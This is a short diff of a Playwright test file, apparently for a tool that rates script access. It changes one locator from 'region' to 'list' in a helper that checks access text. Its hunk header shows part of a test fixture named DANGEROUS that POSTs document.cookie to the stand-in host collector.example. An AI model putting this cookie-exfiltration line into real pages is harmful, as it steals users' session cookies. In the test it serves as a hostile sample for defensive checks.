@@ -79,7 +79,7 @@ fetch("https://collector.example/keep", { method: "POST", body: document.cookie 
 
 /** Both answers of the rating of `DANGEROUS`, as pages state them. */
 async function expectAnswers(place: Page | Locator): Promise<void> {
-	const access = place.getByRole("region", { name: "Access" }).first();
+	const access = place.getByRole("list", { name: "Access" }).first();
 	await expect(access).toContainText("This site only: example.org");
 	await expect(access).toContainText("Runs no code of others");
 	await expect(access).toContainText("Reads cookies");
